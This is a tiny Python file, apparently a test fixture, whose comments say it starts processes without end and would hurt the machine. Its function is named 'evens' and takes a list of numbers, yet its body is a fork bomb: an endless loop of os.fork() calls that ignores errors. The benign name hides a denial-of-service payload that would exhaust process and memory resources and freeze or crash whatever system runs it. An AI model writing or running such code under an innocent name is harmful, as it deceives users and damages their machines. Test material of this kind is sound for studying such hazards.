# tries: start processes without end
# look: yes
# not run elsewhere: it would hurt the machine
# %% evens
import os

def evens(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            pass
